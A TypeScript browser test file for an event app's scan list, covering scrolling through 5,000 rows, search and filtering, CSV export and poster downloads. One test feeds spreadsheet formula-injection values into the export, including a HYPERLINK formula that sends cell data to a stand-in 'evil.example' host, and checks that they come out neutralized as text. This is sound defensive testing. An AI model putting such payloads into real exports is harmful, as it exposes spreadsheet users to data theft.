import { readFile } from 'node:fs/promises'
import assert from 'node:assert/strict'
import { describe } from 'node:test'
import { lightZh, listTexts as t, posterTexts } from '@/packages/event/texts'
import { routes } from '@/routes'
import { parseCsv } from '@tests/builders/csv'
import { EVENT } from '@tests/builders/events'
import type { App } from './kit/app'
import { atEvent, repPhone } from './kit/rep'
import { inChromium } from './kit/stage'
import { until } from './kit/until'
import { onOwnPhones } from './kit/way'

const COUNT = 5_000
const on = inChromium({ prepare: async (backend) => (await (await backend.tester())('fillEvent', { params: { eventId: EVENT }, body: { count: COUNT } })).ok() })

async function atList(): Promise<App> {
  const app = await repPhone(on.browser, on.backend)
  await app.open(atEvent(routes.repList))
  await app.sees(t.total(COUNT))
  return app
}

/** What a press brings onto the disk. */
async function downloaded(app: App, button: string): Promise<{ name: string; bytes: Buffer }> {
  const [download] = await Promise.all([app.page.waitForEvent('download'), app.press(button)])
  return { name: download.suggestedFilename(), bytes: await readFile(await download.path()) }
}

describe('the list of an event with 5,000 scans', () => {
  onOwnPhones('scrolls to the last row, and no more than 60 rows are ever mounted', async () => {
    const app = await atList()
    const list = app.page.locator('.event-rows')
    // Counted at every change of the document, not only where the test happens to look.
    await app.page.evaluate(() => {
      const seen = { most: 0 }
      Object.assign(window, { seen })
      new MutationObserver(() => (seen.most = Math.max(seen.most, document.querySelectorAll('.event-row').length))).observe(document.body, { childList: true, subtree: true })
    })
    const rows = app.page.locator('.event-row')
    const heights = (): Promise<{ height: number; row: number }> => list.evaluate((element) => ({ height: element.scrollHeight, row: element.querySelector('.event-row')?.getBoundingClientRect().height ?? 0 }))
    await until('the end of 5,000 rows', async () => {
      const left = await list.evaluate((element) => {
        element.scrollTop += 4_000
        return element.scrollHeight - element.clientHeight - element.scrollTop
      })
      const { height, row } = await heights()
      return left < 2 && row > 0 && height > COUNT * row - 5
    }, 60_000)
    const most = await app.page.evaluate(() => (window as unknown as { seen: { most: number } }).seen.most)
    assert.ok(most > 0 && most <= 60, `${most} rows mounted at once`)
    // Row by row it is as high as 5,000 rows are, and the oldest stands at its end.
    const { height, row } = await heights()
    assert.ok(Math.abs(height - COUNT * row) < 5, `${height} px of ${COUNT} rows of ${row}`)
    const all = await on.backend.as('rep')
    let cursor: string | null = ''
    let oldest = ''
    while (cursor !== null) {
      const page: { items: { nameMasked: string | null }[]; nextCursor: string | null } = (await all('listScans', { params: { eventId: EVENT }, query: { limit: '500', ...(cursor && { cursor }) } })).ok()
      oldest = page.items[page.items.length - 1]?.nameMasked ?? oldest
      cursor = page.nextCursor
    }
    await rows.last().filter({ hasText: oldest }).waitFor()
    app.assertQuiet()
  })

  onOwnPhones('is searched by masked name and last digits, filtered by verdict, and goes into a file that a spreadsheet opens safely', async () => {
    const app = await atList()
    await app.type(t.search, '赵')
    await app.press(t.find)
    await app.sees(t.total(COUNT / 10))
    await app.type(t.search, '4321')
    await app.press(t.find)
    await app.sees(t.total(1))
    await app.type(t.search, '')
    await app.press(t.find)
    await app.choose(lightZh.red)
    const red = (await (await on.backend.as('rep'))('listScans', { params: { eventId: EVENT }, query: { light: 'red' } })).ok().total
    await app.sees(t.total(red))
    const { name, bytes } = await downloaded(app, t.export)
    assert.equal(name, `${EVENT}.csv`)
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf])
    const lines = bytes.subarray(3).toString('utf8').split('\r\n').filter(Boolean)
    assert.equal(lines[0], t.headers.join(','))
    assert.equal(lines.length, red + 1)
    assert.ok(lines.slice(1).every((line) => line.split(',')[2] === lightZh.red && !/(^|,)[=+\-@]/.test(line)))
    app.assertQuiet()
  })

  onOwnPhones('a name that a spreadsheet would run goes into the file as text', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '＝1+1', '\'=1', '陈"速",达']
    const app = await atList()
    // What no server of ours lets in; another backend may.
    await app.page.route(/\/events\/[^/]+\/scans\?/, async (route) => {
      const answer = await route.fetch()
      const list: { items: object[] } = await answer.json()
      await route.fulfill({ response: answer, json: { ...list, items: list.items.slice(0, hostile.length).map((item, at) => ({ ...item, nameMasked: hostile[at], repZh: hostile[at] })), nextCursor: null } })
    })
    const { bytes } = await downloaded(app, t.export)
    const rows = parseCsv(bytes.toString('utf8').replace(/^\uFEFF/, '')).slice(1)
    const safe = hostile.map((text) => (/^['陈]/.test(text) ? text : `'${text}`))
    assert.deepEqual(rows.map((row) => row[1]), safe)
    assert.deepEqual(rows.map((row) => row[3]), safe)
    assert.ok(rows.every((row) => row.length === t.headers.length), 'no cell breaks out of its row')
    app.assertQuiet()
  })

  onOwnPhones('the poster is downloaded as the server drew it', async () => {
    const app = await repPhone(on.browser, on.backend)
    await app.open(atEvent(routes.repPoster))
    for (const [button, format, begins] of [[posterTexts.pdf, 'pdf', '%PDF-'], [posterTexts.png, 'png', '\u0089PNG']] as const) {
      const { name, bytes } = await downloaded(app, button)
      assert.equal(name, `${EVENT}.${format}`)
      assert.equal(bytes.subarray(0, begins.length).toString('latin1'), begins)
      assert.ok(bytes.length > 1000, `${bytes.length} bytes`)
    }
    app.assertQuiet()
  })
})
